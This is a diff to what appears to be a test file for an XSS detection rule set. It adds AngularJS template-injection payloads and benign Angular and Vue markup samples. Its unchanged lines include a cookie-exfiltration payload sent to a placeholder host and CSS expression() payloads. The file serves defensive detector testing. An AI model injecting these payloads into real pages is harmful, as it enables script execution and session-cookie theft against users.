@@ -74,7 +74,12 @@ RULE_CASES: dict[str, list[str]] = {
         "alert?.(1)",
         "new Image().src='//x.example/?'+document.cookie",
     ],
-    "HG-XSS-006": ["{{constructor.constructor('alert(1)')()}}", "{{$on.constructor('alert(1)')()}}"],
+    "HG-XSS-006": [
+        "{{constructor.constructor('alert(1)')()}}",
+        "{{$on.constructor('alert(1)')()}}",
+        "<input autofocus ng-focus=\"$event.path|orderBy:'[].constructor.from([1],alert)'\">",
+        '<img src=x ng-on-error="$event.target.ownerDocument.defaultView.alert(1)">',
+    ],
     "HG-XSS-007": [
         '<div style="width:expression(alert(1))">',
         "x:expression(alert(1))",
@@ -104,6 +109,8 @@ BENIGN = [
     '<p style="color:#333;background:url(/bg.png)">hi</p>',
     "<math><mi>x</mi><mo>=</mo><mn>2</mn></math>",
     "How do I read document.cookie in JavaScript?",
+    '<button ng-click="save()" aria-label="alert">Save</button>',
+    '<p v-html="userBio" x-text="message">',
 ]
 
 
